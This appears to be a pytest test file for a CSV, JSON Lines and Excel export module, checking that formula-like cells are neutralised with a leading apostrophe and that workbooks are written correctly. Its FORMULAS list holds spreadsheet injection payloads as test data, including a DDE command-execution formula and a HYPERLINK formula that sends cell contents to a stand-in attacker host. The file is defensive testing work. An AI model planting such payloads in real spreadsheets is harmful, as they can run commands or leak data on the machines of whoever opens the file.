import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from core.tabular import writing
from core.tabular.cells import clean
from core.tabular.writing import CellWriter, CsvWriter, JsonLinesWriter, neutral, workbook

SHANGHAI = ZoneInfo("Asia/Shanghai")
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "=IMPORTXML(1)",
    "＝1+1", "＋1", "－1", "＠x",
    "+8613800138000", "-", "=",
]  # fmt: skip
HARMLESS = ["", "茶", " =1+1", "'=1", "1-1", "a@b.com", "👩🏽‍🦰", "1e5", "true", "a\nb", '"x"']
MOMENT = datetime(2026, 6, 14, 16, 0, 5, tzinfo=UTC)


def read_csv(writer, rows):
    data = writer.head() + writer.rows(rows)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_excel(columns, rows, **options):
    writer = CellWriter(columns, SHANGHAI)
    lines = writer.rows(rows).splitlines(keepends=True)
    data = b"".join(workbook(columns, iter(lines), len(lines), options.get("piece", 1000)))
    book = openpyxl.load_workbook(io.BytesIO(data))
    # openpyxl leaves the escapes of inline text as they are, which spreadsheets resolve
    return [
        [[unescape(cell) if isinstance(cell, str) else cell for cell in row]
         for row in sheet.values]
        for sheet in book.worksheets
    ]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text):
    assert neutral(text) == f"'{text}"
    (_, (cell,)) = read_csv(CsvWriter(["a"], UTC), [[text]])
    assert cell[0] == "'"
    assert cell[1:] == text
    ((_, (cell,)),) = read_excel(["a"], [[text]])
    assert cell[0] == "'"
    # what is imported again is what it was
    assert clean(f"'{text}").strip() == text.strip()


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays(text):
    assert neutral(text) == text


def test_csv():
    row = ["张三", 3, Decimal("12.50"), True, MOMENT, date(1990, 1, 2), ["a", "=b"], None]
    (_, cells) = read_csv(CsvWriter(list("abcdefgh"), SHANGHAI), [row])
    assert cells == ["张三", "3", "12.50", "true", "2026-06-15 00:00:05", "1990-01-02", "a,=b", ""]
    (_, cells) = read_csv(CsvWriter(["a"], UTC), [[["=a", "b"]]])
    assert cells == ["'=a,b"]


def test_json_lines_stay_as_they_are():
    row = ["=1+1", 3, Decimal("12.50"), False, MOMENT, date(1990, 1, 2), ["=b"], None]
    line = JsonLinesWriter(list("abcdefgh"), SHANGHAI).rows([row])
    assert line.endswith(b"\n")
    assert orjson.loads(line) == {
        "a": "=1+1", "b": 3, "c": "12.50", "d": False, "e": "2026-06-14T16:00:05+00:00",
        "f": "1990-01-02", "g": ["=b"], "h": None,
    }  # fmt: skip


def test_excel():
    row = ["张三 <&> \"x\"", 3, Decimal("12.50"), True, MOMENT, date(1990, 1, 2), ["a"], None,
           10**17, "a\nb\r\nc\td", "_x0041_", "\x01\x0b", " x "]  # fmt: skip
    columns = [f"c{n}" for n in range(len(row))]
    ((head, cells),) = read_excel(columns, [row])
    assert head == columns
    assert cells == [
        "张三 <&> \"x\"", 3, 12.5, True, datetime(2026, 6, 15, 0, 0, 5), datetime(1990, 1, 2), "a",  # noqa: DTZ001
        None, str(10**17), "a\nb\r\nc\td", "_x0041_", "\x01\x0b", " x ",
    ]  # fmt: skip


def test_a_cell_is_cut_at_what_excel_can_hold():
    writer = CellWriter(["a"], UTC)
    line = writer.rows([["x" * 40_000]])
    assert writer.cut == 1
    data = b"".join(workbook(["a"], iter([line]), 1, 1000))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert len(sheet["A2"].value) == 32_767


def test_rows_go_on_in_the_next_sheet(monkeypatch):
    monkeypatch.setattr(writing, "SHEET_ROWS", 4)
    sheets = read_excel(["n"], [[n] for n in range(7)])
    assert sheets == [[["n"], [0], [1], [2]], [["n"], [3], [4], [5]], [["n"], [6]]]
    assert read_excel(["n"], [[n] for n in range(3)]) == [[["n"], [0], [1], [2]]]
    assert read_excel(["n"], []) == [[["n"]]]


def test_a_workbook_comes_in_pieces_and_is_the_same_each_time():
    writer = CellWriter(["a", "b"], UTC)
    lines = writer.rows([[f"text {n * 7919 % 10007}", n] for n in range(20_000)]).splitlines(True)
    first = list(workbook(["a", "b"], iter(lines), len(lines), 10_000))
    assert len(first) > 5
    assert max(map(len, first)) < 200_000
    assert b"".join(first) == b"".join(workbook(["a", "b"], iter(lines), len(lines), 10**9))
    with zipfile.ZipFile(io.BytesIO(b"".join(first))) as book:
        assert book.testzip() is None


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=5))
def test_any_text_survives(texts):
    columns = [f"c{n}" for n in range(len(texts))]
    texts = [text.encode("utf-8", "ignore").decode() for text in texts]
    ((_, cells),) = read_excel(columns, [texts])
    assert [cell or "" for cell in cells] == [neutral(text) for text in texts]
    (_, found) = read_csv(CsvWriter(columns, UTC), [texts])
    assert found == [neutral(text) for text in texts]
